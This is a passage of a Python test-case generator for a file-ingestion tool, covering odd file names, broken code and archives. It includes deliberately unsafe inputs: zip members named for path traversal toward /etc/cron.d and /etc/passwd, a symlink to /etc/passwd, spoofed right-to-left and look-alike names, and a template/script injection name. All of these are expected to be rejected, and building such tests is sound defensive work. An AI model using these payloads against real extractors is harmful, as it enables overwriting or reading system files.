        "code/broken.c",
        "no C at all",
        _of(b"#define X }{ ][ /* never ends " + SENTENCE.encode()),
        LANDS,
        says="log book",
    )


def _names() -> Iterator[Case]:
    plain = {
        "names/\U0001f9ad seal \U0001f468\u200d\U0001f469\u200d\U0001f467.txt": "emoji",
        "names/\u05dc\u05d9\u05dc\u05d4 \u05d8\u05d5\u05d1.txt": "right to left",
        "names/invoice\u202efdp.txt": "right-to-left override: it looks like a PDF",
        "names/раураl.txt": "Cyrillic letters that look Latin",
        "names/e\u0301te\u0301.txt": "accents of their own",
        "names/a b+c%20d&e=f?g#h;i@j!k'l(m)*.txt": "characters with a meaning in addresses",
        "names/{{7*7}}${x}<script>.txt": "characters with a meaning in templates",
        "names/ leading and trailing .txt ": "blanks at the ends",
        "names/.hidden": "hidden, without an extension",
        "names/CON.txt": "a device of Windows",
        "names/a.pdf.exe.txt": "many extensions",
        "names/" + "n" * 240 + ".txt": "a name of 244 characters",
        "names/" + "/".join("d" * 9) + "/deep.txt": "many folders",
    }
    for number, (name, about) in enumerate(plain.items()):
        yield Case(name, about, _of(f"The berth of ship number {number} is taken."), LANDS, says=f"number {number} is")
    refused = {
        "names/line\nbreak.txt": "a line break",
        "names/tab\tstop.txt": "a control character",
        "names/next\x85line.txt": "a control character beyond ASCII",
        "names/../../escape.txt": "relative folders",
        "names//empty.txt": "an empty folder",
        "names/separator\u2028.txt": "a line separator",
    }
    for number, (name, about) in enumerate(refused.items()):
        yield Case(name, about, _of(f"The name of ship number {number} is refused."), NAME, extracted=LANDS)


def _archives() -> Iterator[Case]:
    def unsafe(kind: str, *names: str) -> Case:
        return Case(f"archives/{kind}.zip", f"unsafe names: {kind}", lambda: raw_zip(
            [(name.encode(), f"{kind} {CANARY}".encode()) for name in (*names, "good.txt")], flags=0x800),
            UNSAFE)  # fmt: skip

    yield unsafe("traversal", "../../etc/cron.d/job", "a/../../b")
    yield unsafe("absolute", "/etc/passwd")
    yield unsafe("drive", "C:/windows/win.ini")
    yield unsafe("backslash", "..\\..\\evil.txt")
    yield unsafe("control", "line\nbreak.txt", "nul\x00.txt")
    yield unsafe("twice", "twin.txt", "twin.txt")
    yield unsafe("long", "n" * 1_100)
    yield Case("archives/link.zip", "a symbolic link", lambda: zip_of(
        ("good.txt", b"beside a link"), ("link", b"/etc/passwd"), modes={"link": SYMLINK}), UNSAFE)  # fmt: skip
    yield Case("archives/device.zip", "a device", lambda: zip_of(("disk", b""), modes={"disk": DEVICE}), UNSAFE)
    yield Case("archives/mixed.zip", "good members beside bad ones and litter", lambda: zip_of(
        ("docs/", b""), ("docs/good \U0001f9ad.txt", b"The good member of the mixed archive lies at pier eighty."),
        ("docs/image.txt", PNG + b"zip"), ("docs/empty.txt", b""), ("docs/.DS_Store", b"x"),
        ("docs/inner.zip", zip_of(("a.md", b"# Inner\n\nThe inner member lies at pier eighty-one.")))), EXPANDS,
        members={"docs/good \U0001f9ad.txt": LANDS, "docs/image.txt": MISMATCH, "docs/empty.txt": EMPTY,
                 "docs/inner.zip/a.md": LANDS})  # fmt: skip
    yield Case("archives/names.zip", "names in code page 437, and in UTF-8 without a mark", lambda: raw_zip(
        [("Größe.txt".encode("cp437"), b"The size of pier eighty-two."),
         ("Länge.txt".encode(), b"The length of pier eighty-three.")]), EXPANDS,
        members={"Größe.txt": LANDS, "Länge.txt": LANDS})  # fmt: skip
    yield Case("archives/slack.zip", "an export of Slack with a broken day", lambda: slack_export(
        {"harbour/2026-03-05.json": [
            {"type": "message", "user": "U1", "ts": "1772700000.000100", "text": "Meet at pier eighty-four, <@U2>"}],
         "harbour/2026-03-06.json": b'[{"type": "mess'},
        users=[{"id": "U1", "name": "ann"}, {"id": "U2", "name": "bo"}], channels=[{"id": "C1", "name": "harbour"}]
    ), EXPANDS, members={"harbour.json": LANDS, "harbour/2026-03-06.json": CORRUPT})  # fmt: skip


CASES: tuple[Case, ...] = tuple(
    case
    for cases in (
        _empty, _wrong_types, _broken, _encrypted, _bombs, _pdf, _text, _csv, _html, _office, _json, _mail,
        _transcripts, _code, _names, _archives,
    )
    for case in cases()
)  # fmt: skip
